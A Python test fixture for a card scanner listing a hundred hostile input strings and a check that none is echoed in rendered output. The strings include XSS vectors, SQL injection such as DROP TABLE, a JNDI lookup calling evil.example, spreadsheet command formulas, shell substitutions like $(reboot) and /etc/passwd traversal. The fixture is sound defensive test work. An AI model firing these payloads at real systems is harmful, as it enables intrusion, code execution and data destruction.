"""A hundred texts that somebody may show to a scanner: none is opened, run or shown as it is."""

from __future__ import annotations

import html
import json
from itertools import product
from typing import Final

from integrity_card_scanner.vouchers import PREFIX

_URLS: Final = (
    "https://evil.example/?a=1", "http://evil.example/%0d%0aSet-Cookie:a=b", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "weixin://dl/business/?t=x",
    "tel:110", "//evil.example/x", "ftp://evil.example/x", "intent://scan/#Intent;end",
)  # fmt: skip
_HTML: Final = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>',
    "<iframe src=//evil.example>", "</td></tr><b>", "<b>ok</b>", "&lt;script&gt;", "<!--", "]]>",
    "<a href='https://evil.example'>x</a>",
)  # fmt: skip
_FORMULAS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
    "\t=1+1", "\r=1+1", '=IMPORTXML("http://x","//a")', "＝1+1",
)  # fmt: skip
_STATEMENTS: Final = (
    "'; DROP TABLE vouchers; --", "' OR 1=1 --", "1; SELECT pg_sleep(9)", "\\'; --", "%s%s%n",
    "{{config}}", "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", "../../etc/passwd",
)  # fmt: skip
_SIGNS: Final = (
    "\u202eIC1P:AAAA", "\u2066IC1P:AAAA\u2069", "IC1P:\u2060", "\u200f\u202e\u200b", "\ufeffIC1P:",
    "IC1P:é", "Ｉ\uff23１Ｐ：", "券码一二三", "\U0001f4b3\U0001f4b3", "e\u0301" * 20,
)  # fmt: skip
_PARTS: Final = (
    "<b>", "=1+1", "'--", "\u202e", "\u200b", "https://evil.example", "%00", "{{7*7}}", ",;",
    "A" * 200,
)  # fmt: skip
_BEGINNINGS: Final = (PREFIX, "IC1P:", "IC1V:", "IC1R:", "ICO2:")
HOSTILE: Final = (
    *_URLS, *_HTML, *_FORMULAS, *_STATEMENTS, *_SIGNS,
    *(beginning + part for beginning, part in product(_BEGINNINGS, _PARTS)),
)  # fmt: skip


def assert_not_shown(hostile: str, shown: str) -> None:
    """Nothing of a text is in what is shown, neither as it is nor in JSON's or HTML's writing."""
    written = (hostile, json.dumps(hostile)[1:-1], html.escape(hostile))
    assert not [one for one in written if one in shown], hostile
